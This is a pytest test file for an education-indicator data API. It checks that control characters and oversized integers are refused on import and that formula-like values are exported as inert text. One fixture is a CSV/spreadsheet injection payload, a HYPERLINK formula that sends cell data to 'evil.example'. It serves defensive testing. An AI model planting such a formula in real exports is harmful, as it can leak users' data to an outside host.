"""Data values that would break or arm an export (issue 9, items 10 and 11): control characters and
oversized numbers refused on every way in, formulas kept inert on every way out."""

from __future__ import annotations

import io
import json

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Connection, select

from jiaowei.auth.model import SYSTEM
from jiaowei.indicators import store
from jiaowei.indicators.metadata import service as metadata
from jiaowei.indicators.model import ValueRow
from jiaowei.indicators.values import formats
from tests.factories import indicator_setup, make_user, token_for

BIG = "9" * 400
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def setup(conn: Connection) -> dict[str, str]:
    """The indicator factory plus a yearly text element ``REMARK`` in data set ``NOTES_Y``."""
    indicator_setup(conn)
    metadata.save_data_element(conn, principal=SYSTEM, code="REMARK", name_zh="备注", name_en="Remark",
                               value_type="TEXT", aggregation_type="NONE")
    metadata.save_data_set(conn, principal=SYSTEM, code="NOTES_Y", name_zh="说明", name_en="Notes",
                           period_type="Yearly", elements=["REMARK"], unit_types=["primary_school"],
                           due_days=15, expiry_days=0)
    return token_for(conn, make_user(conn, "dataadmin"))


def cell(element: str = "TEACHERS", **fields: str) -> dict[str, str]:
    return {"dataElement": element, "period": "2020", "orgUnit": "S1", **fields}


def stored_values(conn: Connection) -> list[tuple[str, str | None]]:
    return [tuple(r) for r in conn.execute(select(store.data_values.c.value, store.data_values.c.comment))]


@pytest.mark.parametrize(("body", "field"), [
    (cell(value="12", comment="含\x00外聘"), "comment"),
    (cell(value="12", comment="bell\x07"), "comment"),
    (cell(value="12", comment="c1\x9b"), "comment"),
    (cell("REMARK", value="text\x00"), "value"),
    (cell("REMARK", value="del\x7f"), "value"),
])
def test_one_cell_with_a_control_character_is_refused_naming_the_field(
        client: TestClient, conn: Connection, body: dict[str, str], field: str) -> None:
    headers = setup(conn)
    response = client.post("/api/dataValues", json=body, headers=headers)
    assert response.status_code == 422, response.text
    (problem,) = response.json()["problems"]
    assert problem["field"] == field and "U+00" in problem["message"] and "\\x" in problem["value"]
    assert "control characters" in problem["expected"]
    assert stored_values(conn) == []


def test_tabs_and_line_breaks_pass_in_comments_and_text_values(client: TestClient, conn: Connection) -> None:
    headers = setup(conn)
    for body in (cell(value="12", comment="第一行\r\n第二行\t完"), cell("REMARK", value="a\n\tb")):
        assert client.post("/api/dataValues", json=body, headers=headers).status_code == 200
    assert sorted(stored_values(conn)) == [("12", "第一行\r\n第二行\t完"), ("a\n\tb", None)]


def test_a_file_with_a_control_character_or_a_huge_integer_writes_nothing(client: TestClient,
                                                                          conn: Connection) -> None:
    headers = setup(conn)
    rows = [cell(value="12", comment="ok"), cell("PUPILS", categoryOptionCombo="M", value=BIG),
            cell("REMARK", value="x\x1b[31m")]
    response = client.post("/api/dataValueSets", content=json.dumps({"dataValues": rows}).encode(),
                           headers=headers)
    assert response.status_code == 409, response.text
    conflicts = {c["property"]: c for c in response.json()["response"]["conflicts"]}
    assert set(conflicts) == {"value"} and len(response.json()["response"]["conflicts"]) == 2
    assert stored_values(conn) == []


@pytest.mark.parametrize("format", ["dhis2-json", "dhis2-csv", "adx", "xlsx"])
def test_an_integer_of_400_digits_is_refused_in_every_format(client: TestClient, conn: Connection,
                                                            format: str) -> None:
    headers = setup(conn)
    buffer = io.BytesIO()
    extra = {"data_set": "SCHOOL_Y"} if format == "xlsx" else {}
    formats.write(format, [ValueRow("TEACHERS", "2020", "S1", value=BIG)], buffer, **extra)
    response = client.post("/api/dataValueSets", content=buffer.getvalue(), headers=headers,
                           params={"format": format})
    assert response.status_code == 409, response.text
    (conflict,) = response.json()["response"]["conflicts"]
    assert conflict["property"] == "value" and "10^15" in conflict["value"]
    one = client.post("/api/dataValues", json=cell(value=BIG), headers=headers)
    assert one.status_code == 422 and one.json()["problems"][0]["field"] == "value"
    assert client.post("/api/dataValues", json=cell(value="9" * 15), headers=headers).status_code == 200


def test_formula_like_text_is_exported_inert_and_imports_back(client: TestClient, conn: Connection) -> None:
    headers = setup(conn)
    rows = [cell("REMARK", value=FORMULA, comment="=1+2"), cell(value="12", comment="-note"),
            cell("PUPILS", categoryOptionCombo="M", value="-3")]
    imported = client.post("/api/dataValueSets", content=json.dumps({"dataValues": rows}).encode(),
                           headers=headers)
    assert imported.status_code == 200, imported.text
    query = {"orgUnit": "S1", "period": "2020", "format": "dhis2-csv"}
    exported = client.get("/api/dataValueSets", headers=headers, params=query)
    text = exported.content.decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in text and ",'=1+2," in text and ",'-note," in text
    again = client.post("/api/dataValueSets", content=exported.content, headers=headers,
                        params={"format": "dhis2-csv"})
    assert again.status_code == 200 and again.json()["response"]["importCount"]["updated"] == 0, again.text
    assert (FORMULA, "=1+2") in stored_values(conn)


def test_the_xlsx_template_writes_formula_like_text_as_text(client: TestClient, conn: Connection) -> None:
    headers = setup(conn)
    assert client.post("/api/dataValues", json=cell("REMARK", value=FORMULA, comment="@SUM(A1)"),
                       headers=headers).status_code == 200
    metadata.save_data_set(conn, principal=SYSTEM, code="NOTES_Y", name_zh="=1+2", name_en="=3+4",
                           period_type="Yearly", elements=["REMARK"], unit_types=["primary_school"],
                           due_days=15, expiry_days=0)
    template = client.get("/api/dataValueSets/template", headers=headers,
                          params={"dataSet": "NOTES_Y", "period": "2020", "orgUnit": "S1"})
    assert template.status_code == 200, template.text
    sheet = openpyxl.load_workbook(io.BytesIO(template.content)).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert FORMULA in [c.value for row in sheet.iter_rows() for c in row]
    again = client.post("/api/dataValueSets", headers=headers,
                        files={"file": ("NOTES_Y.xlsx", template.content, "application/octet-stream")})
    assert again.status_code == 200 and again.json()["response"]["importCount"]["updated"] == 0, again.text


def test_dhis2_csv_keeps_numbers_and_codes_as_they_are() -> None:
    rows = [ValueRow("E", "2020", "S1", value="-3"), ValueRow("E", "2020", "S2", value="-3.25"),
            ValueRow("E", "2020", "S3", value="+x", comment="'=q", stored_by="@me")]
    buffer = io.BytesIO()
    formats.write_csv(rows, buffer)
    lines = buffer.getvalue().decode().splitlines()
    assert lines[1].startswith("E,2020,S1,,,-3,") and lines[2].startswith("E,2020,S2,,,-3.25,")
    assert lines[3].startswith("E,2020,S3,,,'+x,'@me,,''=q,")
    assert formats.read_csv(buffer.getvalue()) == [
        ValueRow("E", "2020", "S1", value="-3", row=2), ValueRow("E", "2020", "S2", value="-3.25", row=3),
        ValueRow("E", "2020", "S3", value="+x", comment="'=q", stored_by="@me", row=4)]
